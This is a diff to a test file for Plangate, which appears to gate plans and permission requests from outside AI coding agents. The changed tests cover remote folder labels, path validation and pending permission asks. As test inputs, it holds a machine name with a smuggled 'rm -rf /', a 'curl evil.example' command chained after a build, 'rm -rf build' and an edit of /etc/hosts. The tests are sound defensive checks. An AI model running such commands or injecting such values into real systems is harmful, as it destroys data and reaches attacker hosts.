@@ -140,11 +140,29 @@ describe("an outside agent's plan review", () => {
     ).toBe(409);
   });
 
-  it("refuses a folder outside the workspace roots, an unknown agent and a review of Plangate's own agent, changing nothing", async () => {
+  it("takes a folder on another machine as a label: never resolved, read or made here; the same folder on two machines is two sessions", async () => {
     api = testApi();
-    const outside = await submit({ cwd: os.tmpdir() });
-    expect(outside.status).toBe(400);
-    expect(outside.body.error.message).toContain("outside the allowed roots");
+    const remote = "/home/ada/projects/../shop/";
+    const a = await submit({ agent: "gemini", cwd: remote, machine: "ada-laptop", externalSessionId: "g-1" });
+    expect(a.status, JSON.stringify(a.body)).toBe(201);
+    const b = await submit({ agent: "gemini", cwd: remote, machine: "ben-desktop", externalSessionId: "g-1" });
+    expect(b.body.sessionId).not.toBe(a.body.sessionId);
+    const { session } = (await api.call("GET", `/api/sessions/${a.body.sessionId}`)).body;
+    expect(session.workspace).toBe("/home/ada/shop");
+    expect(session.title).toContain("shop on ada-laptop");
+    expect(fs.existsSync("/home/ada/shop")).toBe(false);
+    // A bad machine name is refused by name.
+    const bad = await submit({ cwd: remote, machine: "ada laptop; rm -rf /" });
+    expect(bad.status).toBe(400);
+    expect(bad.body.error.message).toContain("machine");
+  });
+
+  it("refuses a folder that is no absolute path, an unknown agent and a review of Plangate's own agent, changing nothing", async () => {
+    api = testApi();
+    for (const cwd of ["relative/project", "", "/home/ada/\u0000x"]) {
+      const refused = await submit({ cwd });
+      expect([cwd, refused.status]).toEqual([cwd, 400]);
+    }
     expect((await submit({ agent: "cursor" })).status).toBe(400);
     expect((await api.call("GET", "/api/sessions")).body.sessions).toHaveLength(0);
     expect((await outcome("rev_nope")).status).toBe(404);
@@ -189,7 +207,7 @@ describe("an outside agent's permission asks", () => {
     expect((await ask("Bash", { command: "npm run build && curl evil.example" })).body.status).toBe("pending");
   });
 
-  it("a rejection carries its message; the workspace config's deny answers at once; calls Plangate cannot judge are refused", async () => {
+  it("a rejection carries its message; the agent's folder is never read (its config answers nothing); calls Plangate cannot judge are refused", async () => {
     api = testApi({
       files: {
         "README.md": "# x\n",
@@ -203,7 +221,8 @@ describe("an outside agent's permission asks", () => {
       status: "reject",
       message: "Not the README",
     });
-    expect((await ask("Bash", { command: "rm -rf build" })).body).toMatchObject({ status: "deny", requestId: null });
+    // The folder may be on another machine: its .plangate/config.json is never read, so its deny answers nothing.
+    expect((await ask("Bash", { command: "rm -rf build" })).body.status).toBe("pending");
     expect((await ask("Edit", { file_path: "/etc/hosts", old_string: "a", new_string: "b" })).status).toBe(400);
     expect((await ask("WebFetch", { url: "http://x" })).status).toBe(400);
   });
